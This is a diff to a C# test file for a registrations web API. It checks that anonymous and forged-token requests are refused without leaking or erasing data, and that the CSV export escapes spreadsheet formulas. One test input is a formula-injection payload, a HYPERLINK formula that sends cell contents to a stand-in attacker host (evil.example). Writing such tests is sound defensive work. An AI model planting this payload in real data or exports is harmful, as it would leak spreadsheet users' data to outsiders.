@@ -1,4 +1,5 @@
 using System.Net;
+using System.Net.Http.Headers;
 using System.Net.Http.Json;
 using System.Text;
 using System.Text.Json;
@@ -80,14 +81,37 @@ public sealed class RegistrationsApiTests(RegistrationsSite site)
     }
 
     [Fact]
-    public async Task Without_Signing_In_Nothing_Is_Answered()
+    public async Task Without_Signing_In_Or_With_A_Forged_Token_Nothing_Is_Answered_Or_Erased()
     {
+        var email = FormEntryTests.UniqueEmail("not-signed-in");
+        await site.SignUpAsync("Not Given Out", email, HubFormKeys.SocialEvent);
+        var registration = Assert.Single(site.Store.Of(email).Registrations);
         using var anonymous = site.CreateClient();
+        using var forged = site.CreateClient();
+        forged.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", "not-a-token-the-site-issued");
 
-        using var events = await anonymous.GetAsync($"{Api}/events");
-        using var csv = await anonymous.GetAsync($"{Api}/export");
+        foreach (var (client, who) in new[] { (anonymous, "anonymous"), (forged, "forged token") })
+        {
+            var requests = new (string What, Func<Task<HttpResponseMessage>> Send)[]
+            {
+                ("events", () => client.GetAsync($"{Api}/events")),
+                ("registrations", () => client.GetAsync($"{Api}/events/{HubFormKeys.SocialEvent:D}")),
+                ("csv", () => client.GetAsync($"{Api}/export")),
+                ("promote", () => client.PostAsync($"{Api}/{registration.Key:D}/promote", null)),
+                ("person export", () => client.PostAsJsonAsync($"{Api}/person/export", new { email })),
+                ("person erase", () => client.PostAsJsonAsync($"{Api}/person/erase", new { email })),
+            };
+            foreach (var (what, send) in requests)
+            {
+                using var response = await send();
+                Assert.True(response.StatusCode == HttpStatusCode.Unauthorized, $"{who}, {what}: {(int)response.StatusCode}");
+                Assert.DoesNotContain(email, await response.Content.ReadAsStringAsync());
+            }
+        }
 
-        Assert.Equal((HttpStatusCode.Unauthorized, HttpStatusCode.Unauthorized), (events.StatusCode, csv.StatusCode));
+        var after = site.Store.Of(email);
+        Assert.Single(after.Records);
+        Assert.Equal((registration.Status, registration.Position), (Assert.Single(after.Registrations).Status, after.Registrations[0].Position));
     }
 
     [Fact]
@@ -136,7 +160,7 @@ public sealed class RegistrationsApiTests(RegistrationsSite site)
     }
 
     [Fact]
-    public async Task The_Csv_Shows_A_Formula_As_Text_And_Keeps_Arabic_Names_In_Utf8()
+    public async Task The_Csv_Shows_Formulas_As_Text_Keeps_Quotes_And_Arabic_Names_In_Utf8()
     {
         const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
         const string arabic = "كريم عبد الله";
@@ -144,6 +168,18 @@ public sealed class RegistrationsApiTests(RegistrationsSite site)
         var arabicEmail = FormEntryTests.UniqueEmail("csv-arabic");
         await site.SignUpAsync(formula, hostile, HubFormKeys.Conference);
         await site.SignUpAsync(arabic, arabicEmail, HubFormKeys.Conference);
+        // Each name as a spreadsheet shows its cell: a leading formula character escaped, as text.
+        var cells = new Dictionary<string, (string Name, string Cell)>
+        {
+            [FormEntryTests.UniqueEmail("csv-plus")] = ("+1 555 0100", "'+1 555 0100"),
+            [FormEntryTests.UniqueEmail("csv-minus")] = ("-2+3", "'-2+3"),
+            [FormEntryTests.UniqueEmail("csv-at")] = ("@SUM(1)", "'@SUM(1)"),
+            [FormEntryTests.UniqueEmail("csv-quotes")] = ("Said \"hello\", then left", "Said \"hello\", then left"),
+        };
+        foreach (var (email, (name, _)) in cells)
+        {
+            await site.SignUpAsync(name, email, HubFormKeys.Conference);
+        }
 
         using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/export?eventId={HubFormKeys.Conference:D}");
 
@@ -162,6 +198,13 @@ public sealed class RegistrationsApiTests(RegistrationsSite site)
         Assert.DoesNotContain(",\"=", hostileLine);
         Assert.Contains("'=HYPERLINK(", hostileLine);
         Assert.Contains($",{arabic},{arabicEmail},", Assert.Single(lines, l => l.Contains(arabicEmail)));
+        foreach (var (email, (_, cell)) in cells)
+        {
+            // Quoted, or bare if it holds no comma or quote: a spreadsheet reads both the same.
+            var line = Assert.Single(lines, l => l.Contains(email));
+            var bare = !cell.Contains(',') && !cell.Contains('"') && line.Contains($",{cell},{email},");
+            Assert.True(bare || line.Contains($",\"{cell.Replace("\"", "\"\"")}\",{email},"), line);
+        }
     }
 
     [Fact]
